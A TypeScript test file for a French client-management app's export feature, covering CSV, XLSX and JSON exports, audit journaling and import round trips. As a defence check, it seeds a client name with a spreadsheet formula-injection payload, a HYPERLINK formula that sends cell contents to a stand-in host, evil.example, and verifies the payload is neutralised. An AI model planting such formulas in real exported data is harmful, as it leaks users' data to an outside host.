// Exports: CSV for French Excel, XLSX, JSON for portability; formulas neutralised; journaled.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectError, journal, newOwner, startEnv, stopEnv, type Env, type Owner } from '../routes/support.ts';
import { b64, createClient, importFile } from './support.ts';

async function download(o: Owner, path: string) {
  const res = await fetch(o.client.baseUrl + path, { headers: { cookie: o.client.cookieHeader() } });
  return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
}

describe('client export', () => {
  let env: Env;
  let o: Owner;
  let evil: { id: string };
  beforeAll(async () => {
    env = await startEnv('sqlite');
    o = await newOwner(env.url);
    evil = await createClient(o.client, { nom: '=HYPERLINK("http://evil.example/?d="&A2,"Cliquez")', prenom: '@Bob', emails: ['bob@exemple.fr'], phones: ['+33 6 12 34 56 78'], notes: 'ligne 1\nligne 2 ; avec "guillemets"' });
    await createClient(o.client, { nom: 'Sage', prenom: 'Anne', emails: ['anne@exemple.fr', 'anne.pro@exemple.fr'], phones: [], address: null, marketingConsent: { given: true, at: '2024-03-01', channel: 'formulaire', textShown: 'J’accepte la lettre.' }, legalBasis: 'consentement' });
    const up = await o.client.post(`/api/clients/${evil.id}/documents`, { kind: 'facture', filename: 'facture-12.pdf', mime: 'application/pdf', contentBase64: b64('%PDF-1.4 facture'), documentDate: '2024-05-02' });
    expect(up.status, up.text).toBe(201);
  });
  afterAll(async () => {
    await stopEnv(env);
  });

  it('exports CSV with BOM and « ; », every formula neutralised, and can be imported again', async () => {
    const res = await download(o, '/api/clients/export?format=csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="clients-\d{4}-\d{2}-\d{2}\.csv"/);
    expect([...res.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(res.bytes.subarray(3).toString('utf8'), { delimiter: ';' }) as string[][];
    const header = rows[0]!;
    expect(header.slice(0, 6)).toEqual(['Civilité', 'Nom', 'Prénom', 'Société', 'E-mail', 'Téléphone']);
    const col = (name: string) => header.indexOf(name);
    const bob = rows.find((r) => r[col('E-mail')] === 'bob@exemple.fr')!;
    expect(bob[col('Nom')]).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"Cliquez")`);
    expect(bob[col('Prénom')]).toBe("'@Bob");
    expect(bob[col('Téléphone')]).toBe("'+33612345678");
    expect(bob[col('Notes')]).toBe('ligne 1\nligne 2 ; avec "guillemets"');
    expect(bob[col('Factures')]).toBe('oui');
    expect(bob[col('Dernière facture')]).toBe('2024-05-02');
    const anne = rows.find((r) => r[col('Nom')] === 'Sage')!;
    expect(anne[col('E-mail')]).toBe('anne@exemple.fr, anne.pro@exemple.fr');
    expect(anne[col('Consentement')]).toBe('oui');
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^ *[=+@\t\r]/);

    // Round trip into another business.
    const other = await newOwner(env.url);
    const { job } = await importFile(other.client, res.bytes);
    expect(job?.result).toMatchObject({ importes: 2 });
    const again = (await other.client.get('/api/clients?q=bob@exemple.fr')).body.clients[0];
    expect(again).toMatchObject({ nom: '=HYPERLINK("http://evil.example/?d="&A2,"Cliquez")', prenom: '@Bob', phones: ['+33612345678'] });
    expect((await other.client.get('/api/clients?q=anne.pro@exemple.fr')).body.total).toBe(1);
  });

  it('exports XLSX with plain text cells only', async () => {
    const res = await download(o, '/api/clients/export?format=xlsx');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.bytes as unknown as ExcelJS.Buffer);
    const ws = wb.getWorksheet('Clients')!;
    expect(ws.rowCount).toBe(3);
    // the header is bold and stays in view; the columns are wide enough to read
    expect(ws.getRow(1).font).toMatchObject({ bold: true });
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.getColumn(1).width).toBe(18);
    const values: string[] = [];
    ws.eachRow((row) => row.eachCell((cell) => {
      expect(cell.type, String(cell.value)).not.toBe(ExcelJS.ValueType.Formula);
      values.push(String(cell.value));
    }));
    expect(values).toContain(`'=HYPERLINK("http://evil.example/?d="&A2,"Cliquez")`);
    expect(values).toContain("'+33612345678");
    for (const v of values) expect(v).not.toMatch(/^ *[=+@]/);
    // Round trip: the quote added on export is removed on import.
    const other = await newOwner(env.url);
    const { job } = await importFile(other.client, res.bytes);
    expect(job?.result).toMatchObject({ importes: 2 });
    expect((await other.client.get('/api/clients?q=bob@exemple.fr')).body.clients[0]).toMatchObject({ nom: '=HYPERLINK("http://evil.example/?d="&A2,"Cliquez")', phones: ['+33612345678'] });
  });

  it('exports JSON with every field (art. 20), for the file or one client, journaled', async () => {
    const before = (await journal(o.client))[0]!.seq;
    const all = await download(o, '/api/clients/export?format=json');
    const body = JSON.parse(all.bytes.toString('utf8'));
    expect(body).toMatchObject({ format: 'rempart.clients', version: 1, responsableDuTraitement: o.body.raisonSociale });
    expect(body.clients).toHaveLength(2);
    const bob = body.clients.find((c: { id: string }) => c.id === evil.id);
    expect(bob).toMatchObject({
      nom: '=HYPERLINK("http://evil.example/?d="&A2,"Cliquez")',
      emails: ['bob@exemple.fr'],
      phones: ['+33612345678'],
      address: { lignes: ['3 rue des Tanneurs'], codePostal: '69001', ville: 'Lyon', pays: 'France' },
      status: 'client',
      legalBasis: 'contrat',
      collectedAt: '2024-02-10',
      hasInvoices: true,
      lastInvoiceAt: '2024-05-02',
      documents: [{ kind: 'facture', filename: 'facture-12.pdf', mime: 'application/pdf', size: 16, documentDate: '2024-05-02' }],
    });
    const anne = body.clients.find((c: { nom: string }) => c.nom === 'Sage');
    expect(anne.marketingConsent).toEqual({ given: true, at: '2024-03-01', channel: 'formulaire', textShown: 'J’accepte la lettre.' });

    const one = await download(o, `/api/clients/${evil.id}/export?format=json`);
    expect(one.headers.get('content-disposition')).toContain(`client-${evil.id.slice(0, 8)}-`);
    expect(JSON.parse(one.bytes.toString('utf8')).clients.map((c: { id: string }) => c.id)).toEqual([evil.id]);
    const oneCsv = await download(o, `/api/clients/${evil.id}/export?format=csv`);
    expect(oneCsv.bytes.toString('utf8').trim().split('\r\n')).toHaveLength(2);

    const exports = (await journal(o.client)).filter((e) => e.seq > before && e.action === 'clients.export');
    expect(exports.map((e) => [e.details, e.recordId])).toEqual([
      [{ format: 'csv', nombre: 1 }, evil.id],
      [{ format: 'json', nombre: 1 }, evil.id],
      [{ format: 'json', nombre: 2 }, null],
    ]);
    expectError(await o.client.get('/api/clients/export?format=pdf'), 400, 'DONNEES_INVALIDES');
  });
});
